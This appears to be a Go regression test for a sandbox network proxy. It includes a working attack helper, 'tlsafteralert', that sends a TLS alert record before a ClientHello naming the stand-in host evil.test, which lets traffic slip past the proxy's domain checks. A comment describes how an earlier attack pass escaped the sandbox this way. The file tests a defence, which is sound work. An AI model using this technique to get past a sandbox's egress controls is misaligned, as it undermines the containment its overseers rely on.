//go:build linux

package privtests

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"
)

func init() {
	// tlsafteralert HOSTPORT NAME: open a tunnel to HOSTPORT through
	// HTTPS_PROXY (directly without one), send a TLS warning alert record,
	// then TLS asking for NAME; escaped when the server answers for NAME.
	attacks["tlsafteralert"] = func(a []string) (string, error) {
		var c net.Conn
		var err error
		if p := os.Getenv("HTTPS_PROXY"); p != "" {
			u, perr := url.Parse(p)
			if perr != nil {
				return "", perr
			}
			if c, err = net.DialTimeout("tcp", u.Host, 5*time.Second); err != nil {
				return "", err
			}
			fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", a[0], a[0])
			br := bufio.NewReader(c)
			resp, rerr := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
			if rerr != nil || resp.StatusCode != 200 {
				return "", fmt.Errorf("CONNECT %s: %v %v", a[0], resp, rerr)
			}
		} else if c, err = net.DialTimeout("tcp", a[0], 5*time.Second); err != nil {
			return "", err
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		if _, err := c.Write([]byte{0x15, 0x03, 0x01, 0x00, 0x02, 0x01, 0x5a}); err != nil {
			return "", err
		}
		tc := tls.Client(c, &tls.Config{ServerName: a[1], InsecureSkipVerify: true})
		fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", a[1])
		resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
		if err != nil {
			return "", err
		}
		b, _ := io.ReadAll(resp.Body)
		if got := strings.TrimSpace(string(b)); got != "site "+a[1] {
			return "", fmt.Errorf("the server answered %q", got)
		}
		return "reached site " + a[1] + " through " + a[0], nil
	}
}

// Domain fronting after an alert (attack pass 86): the proxy's look at a
// tunnel's first bytes took only a TLS handshake record (0x16) for TLS. A
// command that sent a warning alert record (0x15) first, which a Go TLS
// server drops before reading the ClientHello, and then TLS asking for
// another name, went through unchecked and reached that site on the
// server of the allowed name.
func TestProxyRefusesDomainFrontingAfterAlert(t *testing.T) {
	f := newFixture(t)
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "site %s\n", r.TLS.ServerName)
	}))
	srv.StartTLS()
	defer srv.Close()
	port := strconv.Itoa(srv.Listener.Addr().(*net.TCPAddr).Port)
	allow := f.netSettings(map[string]any{"allowedDomains": []string{"localhost:" + port}})
	if base := f.direct("tlsafteralert", "localhost:"+port, "evil.test"); !base.escaped() {
		t.Fatalf("the attack must work without moat: %s", base.out)
	}
	if got := f.sandboxedWith(allow, "tlsafteralert", "localhost:"+port, "localhost"); !got.escaped() {
		t.Fatalf("TLS for the allowed name after an alert must work:\n%s", got.out)
	}
	got := f.sandboxedWith(allow, "tlsafteralert", "localhost:"+port, "evil.test")
	if got.escaped() {
		t.Fatalf("ESCAPE: TLS for evil.test after an alert, in a tunnel to localhost:%s:\n%s", port, got.out)
	}
	if !strings.Contains(got.out, "evil.test") || !strings.Contains(got.out, "domain fronting") {
		t.Errorf("the fronting attempt is not reported:\n%s", got.out)
	}
}
